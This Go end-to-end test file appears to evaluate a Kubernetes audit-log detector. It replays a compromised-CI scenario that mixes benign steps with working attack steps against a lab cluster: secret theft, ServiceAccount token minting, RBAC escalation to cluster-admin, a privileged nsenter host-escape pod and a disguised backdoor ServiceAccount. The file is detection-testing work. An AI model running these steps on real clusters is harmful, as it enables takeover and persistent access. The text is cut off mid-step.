package e2e

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"sort"
	"strings"
	"testing"
	"time"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	autoscalingv2 "k8s.io/api/autoscaling/v2"
	batchv1 "k8s.io/api/batch/v1"
	certificatesv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	policyv1 "k8s.io/api/policy/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	appsv1ac "k8s.io/client-go/applyconfigurations/apps/v1"
	corev1ac "k8s.io/client-go/applyconfigurations/core/v1"
	metav1ac "k8s.io/client-go/applyconfigurations/meta/v1"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/kubernetes/scheme"
	"k8s.io/client-go/rest"

	"github.com/apiguard/apiguard/test/e2e/lab"
)

// TestAuditHeldOut2 is the second held-out evaluation corpus of `apiguard
// audit scan`: a realistic day on a cluster whose CI pipeline is
// compromised, played against a real kube-apiserver (lab.Hardened, its audit
// log under a RequestResponse policy), then scanned.
//
// Held-out method. The scenario (testdata/heldout2/README.md) was written
// from public attack knowledge only (Stratus Red Team's Kubernetes
// techniques, Microsoft's Threat Matrix for Kubernetes, MITRE ATT&CK for
// Containers, KubeHound's attack edges, the Kubernetes RBAC good-practices
// page, and public incident reports: RBAC Buster, Dero and Monero
// cryptojacking, TeamTNT, Kinsing, Siloscape), without reading the
// detector's rules, their documentation, the first held-out corpus or the
// other audit tests' step lists, and without running `apiguard audit rules`.
// The steps were fixed before the first scan and were changed afterwards only
// where a step failed to execute at all (README: "Changes after the first
// run"). Every step is one logical action of one actor, labelled benign or
// attack (with its technique and why); ambiguous actions are left out of
// both sets.
//
// Measure. Each request's Audit-Id is recorded against its step; after the
// log holds every request, `audit scan -o jsonl --fail-on none` runs once
// and its alerts are mapped back to steps. The test reports (a) the
// detection rate, attack steps with at least one alert on their own requests
// over attack steps, and (b) the number of high or critical alerts on benign
// steps, as a table in the test log and, when APIGUARD_HELDOUT_OUT names a
// file, as JSON. Written held out, it asserted neither number at first; now
// that the rules were extended after its first result, it holds them to the
// issue's bar (rate >= 0.95, at most one high alert on benign steps). It
// asserts that every step executed as intended, from the client's errors and from the server's own audit record
// (steps meant to be refused got only 401/403, the others none).
func TestAuditHeldOut2(t *testing.T) {
	start := time.Now()
	c := lab.Start(t, lab.Hardened)
	c.WaitAggregated(t)
	ctx, cancel := context.WithTimeout(context.Background(), 4*time.Minute)
	defer cancel()

	tokens := h2Setup(ctx, t, c)
	t.Logf("heldout2: lab and setup ready in %s", time.Since(start).Round(time.Millisecond))

	rec := &auditRecorder{steps: map[string]string{}}
	pool := caPool(t, c.CACertPath)
	tokenCfg := func(name, token string) *rest.Config {
		return lab.RESTConfig(t, c.TokenKubeconfig(t, name, token))
	}
	certCfg := func(user string, groups ...string) *rest.Config {
		return lab.RESTConfig(t, c.UserKubeconfig(t, user, groups...))
	}
	actor := func(cfg *rest.Config, ip, ua string, imp *rest.ImpersonationConfig) h2Actor {
		return h2NewActor(t, rec, cfg, ip, ua, imp)
	}

	const (
		kubectlUA    = "kubectl/v1.36.0 (linux/amd64) kubernetes/7d1a2f4"
		attackerUA   = "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819"
		ciIP         = "127.3.0.10"
		attackerIP   = "127.3.0.66"
		attackerIP2  = "127.3.0.77"
		attackerIP3  = "127.3.0.88"
		bootstrapTok = "k8sbkp.q3v9x2m7c1z8w4n6"
	)

	// Benign actors, each from its own address with its own client.
	ciCfg := tokenCfg("ci-deployer", tokens["ci/deployer"])
	ciHelm := actor(ciCfg, ciIP, "Helm/3.15.2", nil)
	ciKubectl := actor(ciCfg, ciIP, kubectlUA, nil)
	argo := actor(tokenCfg("argocd-controller", tokens["argocd/argocd-application-controller"]), "127.3.0.11",
		"argocd-application-controller/v2.11.3+0b6d7a7 (linux/amd64)", nil)
	certm := actor(tokenCfg("cert-manager", tokens["cert-manager/cert-manager"]), "127.3.0.12",
		"cert-manager-controller/v1.15.1 (linux/amd64) cert-manager/9f2a6c1", nil)
	keda := actor(tokenCfg("keda-operator", tokens["keda/keda-operator"]), "127.3.0.13", "keda-operator/v2.14.0", nil)
	prom := actor(tokenCfg("prometheus", tokens["monitoring/prometheus"]), "127.3.0.14", "Prometheus/2.53.0", nil)
	sre := actor(certCfg("maria.sre@example.com", "sre"), "127.3.0.20", kubectlUA, nil)
	auditor := actor(certCfg("jane.auditor@example.com", "auditors"), "127.3.0.21", kubectlUA, nil)

	// Attacker actors. The leaked CI token is used from the attacker's host;
	// later credentials are created by the attack itself.
	atkCI := actor(ciCfg, attackerIP, attackerUA, nil)
	atkCIAsOperator := actor(ciCfg, attackerIP, attackerUA, &rest.ImpersonationConfig{UserName: "system:serviceaccount:shop:shop-operator"})
	atkCIAsMasters := actor(ciCfg, attackerIP, attackerUA, &rest.ImpersonationConfig{UserName: "kubernetes-admin", Groups: []string{"system:masters"}})
	atkBoot := actor(tokenCfg("bootstrap", bootstrapTok), attackerIP3, "kubeadm/v1.36.0 (linux/amd64) kubernetes/7d1a2f4", nil)
	var atkOp, atkBD, atkCert h2Actor // set by the steps that obtain their credentials

	var csrKeyPEM, csrCertPEM []byte // the attacker's self-issued certificate
	firstPod := func(ctx context.Context, a h2Actor, ns, selector string) (string, error) {
		pods, err := a.cs.CoreV1().Pods(ns).List(ctx, metav1.ListOptions{LabelSelector: selector})
		if err != nil {
			return "", err
		}
		var names []string
		for _, p := range pods.Items {
			if p.DeletionTimestamp == nil {
				names = append(names, p.Name)
			}
		}
		if len(names) == 0 {
			return "", fmt.Errorf("no pod %s in %s", selector, ns)
		}
		sort.Strings(names)
		return names[0], nil
	}

	steps := []h2Step{
		// ---------------- a normal morning ----------------
		{name: "ci-helm-list", why: "helm list: the release Secrets of the CI's own namespace, by label", run: func(ctx context.Context) error {
			_, err := ciHelm.cs.CoreV1().Secrets("shop").List(ctx, metav1.ListOptions{LabelSelector: "owner=helm"})
			return err
		}},
		{name: "ci-helm-release-secret", why: "helm install stores its release as a Secret in the release namespace", run: func(ctx context.Context) error {
			_, err := ciHelm.cs.CoreV1().Secrets("shop").Create(ctx, h2HelmRelease("storefront", 1, "deployed"), metav1.CreateOptions{})
			return err
		}},
		{name: "ci-app-configmap", why: "the chart's ConfigMap for its own app", run: func(ctx context.Context) error {
			_, err := ciHelm.cs.CoreV1().ConfigMaps("shop").Create(ctx, &corev1.ConfigMap{
				ObjectMeta: metav1.ObjectMeta{Name: "storefront-config", Labels: h2HelmLabels("storefront")},
				Data:       map[string]string{"LOG_LEVEL": "info", "CART_TTL": "30m"},
			}, metav1.CreateOptions{})
			return err
		}},
		{name: "ci-app-secret", why: "the chart's database credentials Secret for its own app", run: func(ctx context.Context) error {
			_, err := ciHelm.cs.CoreV1().Secrets("shop").Create(ctx, &corev1.Secret{
				ObjectMeta: metav1.ObjectMeta{Name: "storefront-db-credentials", Labels: h2HelmLabels("storefront")},
				Type:       corev1.SecretTypeOpaque,
				StringData: map[string]string{"username": "storefront", "password": "s3cr3t-from-vault"},
			}, metav1.CreateOptions{})
			return err
		}},
		{name: "ci-deploy-app", why: "the chart's ServiceAccount, Service and Deployment", run: func(ctx context.Context) error {
			if _, err := ciHelm.cs.CoreV1().ServiceAccounts("shop").Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "storefront", Labels: h2HelmLabels("storefront")}}, metav1.CreateOptions{}); err != nil {
				return err
			}
			if _, err := ciHelm.cs.CoreV1().Services("shop").Create(ctx, h2Service("storefront", "storefront", 8080), metav1.CreateOptions{}); err != nil {
				return err
			}
			_, err := ciHelm.cs.AppsV1().Deployments("shop").Create(ctx, h2Deployment("storefront", "registry.example.com/shop/storefront:1.4.3", 2, "storefront"), metav1.CreateOptions{})
			return err
		}},
		{name: "ci-statefulset", why: "the chart's cache StatefulSet and its headless Service", run: func(ctx context.Context) error {
			svc := h2Service("storefront-cache", "storefront-cache", 6379)
			svc.Spec.ClusterIP = corev1.ClusterIPNone
			if _, err := ciHelm.cs.CoreV1().Services("shop").Create(ctx, svc, metav1.CreateOptions{}); err != nil {
				return err
			}
			_, err := ciHelm.cs.AppsV1().StatefulSets("shop").Create(ctx, &appsv1.StatefulSet{
				ObjectMeta: metav1.ObjectMeta{Name: "storefront-cache", Labels: h2HelmLabels("storefront")},
				Spec: appsv1.StatefulSetSpec{
					ServiceName: "storefront-cache",
					Replicas:    h2Ptr(int32(1)),
					Selector:    &metav1.LabelSelector{MatchLabels: map[string]string{"app": "storefront-cache"}},
					Template:    h2PodTemplate("storefront-cache", "registry.example.com/library/redis:7.2", nil),
				},
			}, metav1.CreateOptions{})
			return err
		}},
		{name: "ci-hpa", why: "the chart's HorizontalPodAutoscaler", run: func(ctx context.Context) error {
			_, err := ciHelm.cs.AutoscalingV2().HorizontalPodAutoscalers("shop").Create(ctx, &autoscalingv2.HorizontalPodAutoscaler{
				ObjectMeta: metav1.ObjectMeta{Name: "storefront", Labels: h2HelmLabels("storefront")},
				Spec: autoscalingv2.HorizontalPodAutoscalerSpec{
					ScaleTargetRef: autoscalingv2.CrossVersionObjectReference{APIVersion: "apps/v1", Kind: "Deployment", Name: "storefront"},
					MinReplicas:    h2Ptr(int32(2)),
					MaxReplicas:    10,
					Metrics: []autoscalingv2.MetricSpec{{Type: autoscalingv2.ResourceMetricSourceType, Resource: &autoscalingv2.ResourceMetricSource{
						Name: corev1.ResourceCPU, Target: autoscalingv2.MetricTarget{Type: autoscalingv2.UtilizationMetricType, AverageUtilization: h2Ptr(int32(70))},
					}}},
				},
			}, metav1.CreateOptions{})
			return err
		}},
		{name: "gitops-sync-payments", why: "the GitOps controller server-side applies the payments app from git", run: func(ctx context.Context) error {
			opts := metav1.ApplyOptions{FieldManager: "argocd-controller", Force: true}
			if _, err := argo.cs.CoreV1().ConfigMaps("payments").Apply(ctx, corev1ac.ConfigMap("payments-config", "payments").
				WithLabels(map[string]string{"app.kubernetes.io/instance": "payments"}).
				WithData(map[string]string{"CURRENCY": "EUR", "PSP_ENDPOINT": "https://psp.example.com"}), opts); err != nil {
				return err
			}
			if _, err := argo.cs.CoreV1().Services("payments").Apply(ctx, corev1ac.Service("payments-api", "payments").
				WithLabels(map[string]string{"app.kubernetes.io/instance": "payments"}).
				WithSpec(corev1ac.ServiceSpec().WithSelector(map[string]string{"app": "payments-api"}).
					WithPorts(corev1ac.ServicePort().WithName("http").WithPort(8080))), opts); err != nil {
				return err
			}
			_, err := argo.cs.AppsV1().Deployments("payments").Apply(ctx, h2ApplyDeployment("payments", "payments-api", "registry.example.com/payments/api:3.2.0", 2), opts)
			return err
		}},
		{name: "gitops-informer-sync", why: "the GitOps controller's cluster-wide cache: lists and a watch", run: func(ctx context.Context) error {
			l, err := argo.cs.AppsV1().Deployments("").List(ctx, metav1.ListOptions{Limit: 500})
			if err != nil {
				return err
			}
			if _, err := argo.cs.CoreV1().ConfigMaps("").List(ctx, metav1.ListOptions{Limit: 500}); err != nil {
				return err
			}
			if _, err := argo.cs.CoreV1().Services("").List(ctx, metav1.ListOptions{Limit: 500}); err != nil {
				return err
			}
			w, err := argo.cs.AppsV1().Deployments("").Watch(ctx, metav1.ListOptions{ResourceVersion: l.ResourceVersion, TimeoutSeconds: h2Ptr(int64(1)), AllowWatchBookmarks: true})
			if err != nil {
				return err
			}
			for range w.ResultChan() {
			}
			return nil
		}},
		{name: "certmanager-issue", why: "cert-manager issues the storefront TLS certificate into the Secret its Certificate names", run: func(ctx context.Context) error {
			_, err := certm.cs.CoreV1().Secrets("shop").Get(ctx, "storefront-tls", metav1.GetOptions{})
			if !apierrors.IsNotFound(err) {
				return fmt.Errorf("want 404 for a not yet issued certificate, got %v", err)
			}
			if _, err := certm.cs.CoreV1().Secrets("shop").Create(ctx, h2TLSSecret("storefront-tls", "shop.example.com"), metav1.CreateOptions{}); err != nil {
				return err
			}
			_, err = certm.cs.CoreV1().Events("shop").Create(ctx, h2Event("shop", "storefront-tls", "Issuing", "The certificate has been successfully issued"), metav1.CreateOptions{})
			return err
		}},
		{name: "prometheus-scrape", why: "Prometheus service discovery (pods, services, endpoints, nodes) and the apiserver /metrics", run: func(ctx context.Context) error {
			if _, err := prom.cs.CoreV1().Pods("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := prom.cs.CoreV1().Services("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := prom.cs.DiscoveryV1().EndpointSlices("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := prom.cs.CoreV1().Nodes().List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			_, err := prom.cs.CoreV1().RESTClient().Get().AbsPath("/metrics").DoRaw(ctx)
			return err
		}},
		{name: "keda-scale-up", why: "an autoscaler operator scales the storefront through the scale subresource", run: func(ctx context.Context) error {
			s, err := keda.cs.AppsV1().Deployments("shop").GetScale(ctx, "storefront", metav1.GetOptions{})
			if err != nil {
				return err
			}
			s.Spec.Replicas = 4
			_, err = keda.cs.AppsV1().Deployments("shop").UpdateScale(ctx, "storefront", s, metav1.UpdateOptions{})
			return err
		}},
		{name: "sre-cordon", why: "an SRE cordons the node for maintenance (kubectl cordon)", run: func(ctx context.Context) error {
			_, err := sre.cs.CoreV1().Nodes().Patch(ctx, c.NodeName, types.StrategicMergePatchType, []byte(`{"spec":{"unschedulable":true}}`), metav1.PatchOptions{})
			return err
		}},
		{name: "sre-evict-stuck-pod", why: "the SRE evicts a stuck storefront pod through the eviction API", run: func(ctx context.Context) error {
			p, err := firstPod(ctx, sre, "shop", "app=storefront")
			if err != nil {
				return err
			}
			return sre.cs.PolicyV1().Evictions("shop").Evict(ctx, &policyv1.Eviction{ObjectMeta: metav1.ObjectMeta{Name: p, Namespace: "shop"}})
		}},
		{name: "sre-uncordon", why: "the SRE uncordons the node after maintenance", run: func(ctx context.Context) error {
			_, err := sre.cs.CoreV1().Nodes().Patch(ctx, c.NodeName, types.StrategicMergePatchType, []byte(`{"spec":{"unschedulable":null}}`), metav1.PatchOptions{})
			return err
		}},
		{name: "auditor-inventory", why: "a read-only auditor group runs kubectl get across all namespaces", run: func(ctx context.Context) error {
			if _, err := auditor.cs.AppsV1().Deployments("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := auditor.cs.AppsV1().DaemonSets("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := auditor.cs.AppsV1().StatefulSets("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := auditor.cs.CoreV1().Pods("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := auditor.cs.CoreV1().Services("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			_, err := auditor.cs.CoreV1().ConfigMaps("").List(ctx, metav1.ListOptions{})
			return err
		}},
		{name: "auditor-rbac-review", why: "the auditors' quarterly RBAC review (read-only RBAC listing)", run: func(ctx context.Context) error {
			if _, err := auditor.cs.RbacV1().ClusterRoles().List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := auditor.cs.RbacV1().ClusterRoleBindings().List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := auditor.cs.RbacV1().Roles("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			_, err := auditor.cs.RbacV1().RoleBindings("").List(ctx, metav1.ListOptions{})
			return err
		}},
		{name: "ci-rollout", why: "the pipeline rolls out a new image tag of its own app and follows the rollout", run: func(ctx context.Context) error {
			patch := `{"spec":{"template":{"spec":{"containers":[{"name":"storefront","image":"registry.example.com/shop/storefront:1.4.4"}]}}}}`
			if _, err := ciKubectl.cs.AppsV1().Deployments("shop").Patch(ctx, "storefront", types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{FieldManager: "kubectl-set"}); err != nil {
				return err
			}
			for range 2 {
				if _, err := ciKubectl.cs.AppsV1().Deployments("shop").Get(ctx, "storefront", metav1.GetOptions{}); err != nil {
					return err
				}
			}
			return nil
		}},
		{name: "ci-helm-upgrade-secrets", why: "helm upgrade: a new release Secret, the previous one marked superseded", run: func(ctx context.Context) error {
			if _, err := ciHelm.cs.CoreV1().Secrets("shop").Create(ctx, h2HelmRelease("storefront", 2, "deployed"), metav1.CreateOptions{}); err != nil {
				return err
			}
			_, err := ciHelm.cs.CoreV1().Secrets("shop").Patch(ctx, "sh.helm.release.v1.storefront.v1", types.MergePatchType, []byte(`{"metadata":{"labels":{"status":"superseded"}}}`), metav1.PatchOptions{})
			return err
		}},
		{name: "ci-job-migrate", why: "the pipeline runs its database migration Job in its own namespace", run: func(ctx context.Context) error {
			_, err := ciKubectl.cs.BatchV1().Jobs("payments").Create(ctx, &batchv1.Job{
				ObjectMeta: metav1.ObjectMeta{Name: "payments-db-migrate-42"},
				Spec: batchv1.JobSpec{
					BackoffLimit: h2Ptr(int32(1)),
					Template:     h2JobTemplate("payments-db-migrate", "registry.example.com/payments/migrate:3.2.0", []string{"migrate", "up"}),
				},
			}, metav1.CreateOptions{})
			return err
		}},
		{name: "ci-cronjob-report", why: "the chart's nightly report CronJob (an ordinary CronJob)", run: func(ctx context.Context) error {
			_, err := ciHelm.cs.BatchV1().CronJobs("shop").Create(ctx, &batchv1.CronJob{
				ObjectMeta: metav1.ObjectMeta{Name: "nightly-sales-report", Labels: h2HelmLabels("storefront")},
				Spec: batchv1.CronJobSpec{
					Schedule:    "0 2 * * *",
					JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{Template: h2JobTemplate("sales-report", "registry.example.com/shop/reports:1.0.2", []string{"report", "--daily"})}},
				},
			}, metav1.CreateOptions{})
			return err
		}},
		{name: "ci-helm-uninstall-canary", why: "helm uninstall of the finished canary release", run: func(ctx context.Context) error {
			if _, err := ciHelm.cs.CoreV1().Secrets("shop").List(ctx, metav1.ListOptions{LabelSelector: "name=storefront-canary,owner=helm"}); err != nil {
				return err
			}
			if err := ciHelm.cs.AppsV1().Deployments("shop").Delete(ctx, "storefront-canary", metav1.DeleteOptions{PropagationPolicy: h2Ptr(metav1.DeletePropagationBackground)}); err != nil {
				return err
			}
			return ciHelm.cs.CoreV1().Secrets("shop").Delete(ctx, "sh.helm.release.v1.storefront-canary.v1", metav1.DeleteOptions{})
		}},
		{name: "gitops-team-onboarding", why: "GitOps creates a team namespace and binds the team's group to edit there", run: func(ctx context.Context) error {
			if _, err := argo.cs.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "reporting",
				Labels: map[string]string{"team": "reporting", "policy.example.io/enforce": "true", "app.kubernetes.io/managed-by": "argocd"}}}, metav1.CreateOptions{}); err != nil {
				return err
			}
			_, err := argo.cs.RbacV1().RoleBindings("reporting").Create(ctx, &rbacv1.RoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: "team-reporting-edit"},
				RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "edit"},
				Subjects:   []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.GroupKind, Name: "team-reporting"}},
			}, metav1.CreateOptions{})
			return err
		}},

		// ---------------- the attack: reconnaissance ----------------
		{name: "anon-api-probe", attack: true, refused: true,
			technique: "Discovery: exposed API server probing for anonymous access (T1613; Threat Matrix 'Access Kubernetes API server'; RBAC Buster / Dero initial access)",
			why:       "before using the leaked token, the attacker checks whether the API answers anonymously",
			run: func(ctx context.Context) error {
				for _, p := range []string{"/api/v1/namespaces", "/api/v1/namespaces/kube-system/secrets", "/apis/apps/v1/daemonsets", "/version"} {
					code, err := h2AnonGet(ctx, rec, c.URL, pool, attackerIP, "curl/8.5.0", p)
					if err != nil {
						return err
					}
					if code != http.StatusUnauthorized {
						return fmt.Errorf("anonymous GET %s: %d, want 401", p, code)
					}
				}
				return nil
			}},
		{name: "ci-token-recon", attack: true,
			technique: "Discovery: permission enumeration with a stolen credential (T1613, T1087; kubectl auth whoami / can-i --list; Peirates)",
			why:       "the leaked CI token is tried from the attacker's host: who am I, what may I do where",
			run: func(ctx context.Context) error {
				if _, err := atkCI.cs.AuthenticationV1().SelfSubjectReviews().Create(ctx, &authenticationv1.SelfSubjectReview{}, metav1.CreateOptions{}); err != nil {
					return err
				}
				for _, ns := range []string{"shop", "payments", "kube-system", "default"} {
					if _, err := atkCI.cs.AuthorizationV1().SelfSubjectRulesReviews().Create(ctx, &authorizationv1.SelfSubjectRulesReview{Spec: authorizationv1.SelfSubjectRulesReviewSpec{Namespace: ns}}, metav1.CreateOptions{}); err != nil {
						return err
					}
				}
				_, err := atkCI.cs.CoreV1().Namespaces().List(ctx, metav1.ListOptions{})
				return err
			}},
		{name: "cluster-enum-refused", attack: true, refused: true,
			technique: "Discovery: cluster-wide enumeration beyond the credential's rights, refused (T1613)",
			why:       "the attacker tries to list every pod, kube-system's Secrets, the nodes and the cluster bindings",
			run: func(ctx context.Context) error {
				errs := []error{}
				_, err := atkCI.cs.CoreV1().Pods("").List(ctx, metav1.ListOptions{})
				errs = append(errs, err)
				_, err = atkCI.cs.CoreV1().Secrets("kube-system").List(ctx, metav1.ListOptions{})
				errs = append(errs, err)
				_, err = atkCI.cs.CoreV1().Nodes().List(ctx, metav1.ListOptions{})
				errs = append(errs, err)
				_, err = atkCI.cs.RbacV1().ClusterRoleBindings().List(ctx, metav1.ListOptions{})
				errs = append(errs, err)
				for _, err := range errs {
					if e := h2Refused(err); e != nil {
						return e
					}
				}
				return nil
			}},
		{name: "sre-events", why: "the SRE reads events of the shop namespace while debugging", run: func(ctx context.Context) error {
			if _, err := sre.cs.CoreV1().Events("shop").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			p, err := firstPod(ctx, sre, "shop", "app=storefront")
			if err != nil {
				return err
			}
			if _, err := sre.cs.CoreV1().Pods("shop").Get(ctx, p, metav1.GetOptions{}); err != nil {
				return err
			}
			_, err = sre.cs.CoreV1().Events("shop").List(ctx, metav1.ListOptions{FieldSelector: "involvedObject.name=" + p})
			return err
		}},

		// ---------------- credential access and privilege escalation ----------------
		{name: "payments-secret-dump", attack: true,
			technique: "Credential access: list and read Secrets of a namespace the CI may edit (T1552.007; Threat Matrix 'List K8s secrets')",
			why:       "the CI token can edit payments, so the attacker takes the database and payment-provider credentials",
			run: func(ctx context.Context) error {
				if _, err := atkCI.cs.CoreV1().Secrets("payments").List(ctx, metav1.ListOptions{}); err != nil {
					return err
				}
				for _, n := range []string{"payments-db-credentials", "stripe-api-key"} {
					if _, err := atkCI.cs.CoreV1().Secrets("payments").Get(ctx, n, metav1.GetOptions{}); err != nil {
						return err
					}
				}
				return nil
			}},
		{name: "escalate-ci-role-refused", attack: true, refused: true,
			technique: "Privilege escalation attempt: widen own ClusterRole without the escalate verb, refused by RBAC escalation prevention (T1098)",
			why:       "the CI may patch ClusterRoles, so the attacker tries adding */*/* to the CI's own role",
			run: func(ctx context.Context) error {
				_, err := atkCI.cs.RbacV1().ClusterRoles().Patch(ctx, "ci-deployer-cluster", types.JSONPatchType,
					[]byte(`[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]`), metav1.PatchOptions{})
				return h2Refused(err)
			}},
		{name: "impersonate-operator-sa", attack: true,
			technique: "Privilege escalation / lateral movement: impersonate a more privileged ServiceAccount of the same namespace (T1134-like; RBAC docs 'impersonate'; KubeHound IDENTITY_IMPERSONATE)",
			why:       "edit on shop includes impersonating its ServiceAccounts: the attacker looks at what shop-operator holds",
			run: func(ctx context.Context) error {
				if _, err := atkCIAsOperator.cs.AuthorizationV1().SelfSubjectRulesReviews().Create(ctx, &authorizationv1.SelfSubjectRulesReview{Spec: authorizationv1.SelfSubjectRulesReviewSpec{Namespace: "shop"}}, metav1.CreateOptions{}); err != nil {
					return err
				}
				_, err := atkCIAsOperator.cs.RbacV1().ClusterRoles().Get(ctx, "shop-operator", metav1.GetOptions{})
				return err
			}},
		{name: "steal-operator-token", attack: true,
			technique: "Credential access: TokenRequest for another ServiceAccount (T1528; Stratus k8s.credential-access.steal-serviceaccount-token variant; RBAC good practices 'token request')",
			why:       "the attacker mints a 2-day token for shop-operator to use it directly",
			run: func(ctx context.Context) error {
				tr, err := atkCI.cs.CoreV1().ServiceAccounts("shop").CreateToken(ctx, "shop-operator", &authenticationv1.TokenRequest{
					Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: h2Ptr(int64(172800))}}, metav1.CreateOptions{})
				if err != nil {
					return err
				}
				atkOp = actor(tokenCfg("stolen-shop-operator", tr.Status.Token), attackerIP, "python-requests/2.31.0", nil)
				return nil
			}},
		{name: "escalate-own-clusterrole", attack: true,
			technique: "Privilege escalation: 'escalate' verb, JSON-patch of the caller's own ClusterRole to */*/* (T1098; RBAC good practices 'escalate verb')",
			why:       "shop-operator may escalate its own ClusterRole: the attacker adds a wildcard rule",
			run: func(ctx context.Context) error {
				_, err := atkOp.cs.RbacV1().ClusterRoles().Patch(ctx, "shop-operator", types.JSONPatchType,
					[]byte(`[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]`), metav1.PatchOptions{})
				return err
			}},
		{name: "rolebinding-cluster-admin-kube-system", attack: true,
			technique: "Privilege escalation: RoleBinding of cluster-admin in kube-system via the 'bind' verb (T1098; RBAC good practices 'bind verb'; KubeHound ROLE_BIND)",
			why:       "the CI's bind permission lets the attacker give the CI token full control of kube-system",
			run: func(ctx context.Context) error {
				_, err := atkCI.cs.RbacV1().RoleBindings("kube-system").Create(ctx, &rbacv1.RoleBinding{
					ObjectMeta: metav1.ObjectMeta{Name: "ci-deployer-access"},
					RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
					Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: "deployer", Namespace: "ci"}},
				}, metav1.CreateOptions{})
				return err
			}},
		{name: "certmanager-renew", why: "cert-manager lists the Secrets it manages (by label) and renews one", run: func(ctx context.Context) error {
			if _, err := certm.cs.CoreV1().Secrets("").List(ctx, metav1.ListOptions{LabelSelector: "controller.cert-manager.io/fao=true"}); err != nil {
				return err
			}
			s, err := certm.cs.CoreV1().Secrets("payments").Get(ctx, "payments-api-tls", metav1.GetOptions{})
			if err != nil {
				return err
			}
			s.Annotations["cert-manager.io/renewal-time"] = time.Now().Add(60 * 24 * time.Hour).UTC().Format(time.RFC3339)
			s.Data["tls.crt"] = []byte("-----BEGIN CERTIFICATE-----\nMIIB...renewed\n-----END CERTIFICATE-----\n")
			if _, err := certm.cs.CoreV1().Secrets("payments").Update(ctx, s, metav1.UpdateOptions{}); err != nil {
				return err
			}
			_, err = certm.cs.CoreV1().Events("payments").Create(ctx, h2Event("payments", "payments-api-tls", "Reused", "Renewed certificate stored in Secret"), metav1.CreateOptions{})
			return err
		}},
		{name: "privileged-pod-control-plane", attack: true,
			technique: "Privilege escalation / escape to host: privileged, hostPID, hostNetwork pod with the node's / mounted, pinned to the control-plane node with tolerations (T1611, T1610; Stratus k8s.privilege-escalation.privileged-pod + hostpath-volume; Bishop Fox 'everything allowed')",
			why:       "with kube-system admin the attacker starts a root shell pod on the control plane, named like a CoreDNS replica",
			run: func(ctx context.Context) error {
				_, err := atkCI.cs.CoreV1().Pods("kube-system").Create(ctx, h2HostPod("coredns-6d4b75cb6d-x9k2p", c.NodeName, "/", true, true,
					"docker.io/library/alpine:3.19", []string{"nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "bash"}), metav1.CreateOptions{})
				return err
			}},
		{name: "backdoor-admin-sa", attack: true,
			technique: "Persistence / privilege escalation: new ServiceAccount with a ClusterRoleBinding to cluster-admin, masquerading as a node add-on (T1136, T1098, T1036.005)",
			why:       "the escalated operator creates kube-system/node-problem-detector and binds it to cluster-admin",
			run: func(ctx context.Context) error {
				if _, err := atkOp.cs.CoreV1().ServiceAccounts("kube-system").Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "node-problem-detector",
					Labels: map[string]string{"k8s-app": "node-problem-detector"}}}, metav1.CreateOptions{}); err != nil {
					return err
				}
				_, err := atkOp.cs.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
					ObjectMeta: metav1.ObjectMeta{Name: "system:node-problem-detector", Labels: map[string]string{"kubernetes.io/bootstrapping": "rbac-defaults"}},
					RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
					Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: "node-problem-detector", Namespace: "kube-system"}},
				}, metav1.CreateOptions{})
				return err
			}},
		{name: "backdoor-sa-token", attack: true,
			technique: "Persistence: one-year TokenRequest for the backdoor ServiceAccount (T1528, T1098.001; Stratus k8s.persistence.create-token variant)",
			why:       "a token that outlives the incident response, used from a second attacker host",
